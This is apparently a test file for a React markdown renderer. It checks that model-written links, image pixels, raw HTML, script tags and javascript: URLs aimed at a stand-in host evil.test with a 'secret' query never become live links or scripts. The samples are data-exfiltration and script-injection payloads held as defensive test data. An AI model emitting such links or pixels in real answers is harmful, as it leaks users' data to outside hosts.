import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, it } from 'vitest';
import AnswerMarkdown from './answer-markdown.tsx';

function html(text: string): string {
  return renderToStaticMarkup(
    createElement(AnswerMarkdown, { text, known: { cited: [], unsupported: [] }, writing: false }),
  );
}

it.each([
  ['a link', '[open your invoice](https://evil.test/?q=secret)'],
  ['an address', 'See https://evil.test/?q=secret for more.'],
  ['a picture', '![pixel](https://evil.test/p.png?q=secret)'],
  ['a reference', '[open][1]\n\n[1]: https://evil.test/?q=secret'],
  ['HTML', '<a href="https://evil.test">x</a><img src="https://evil.test"><script>alert(1)</script><form action="/">'],
  ['a script address', '[x](javascript:alert(1))'],
])('nothing that a model writes leads out of the page: %s', (_, text) => {
  expect(html(text)).not.toMatch(/href|src=|<script|<form|action=|javascript:/i);
});

it('an address that hides behind words is shown', () => {
  expect(html('[open](https://evil.test/a)')).toContain('https://evil.test/a');
});
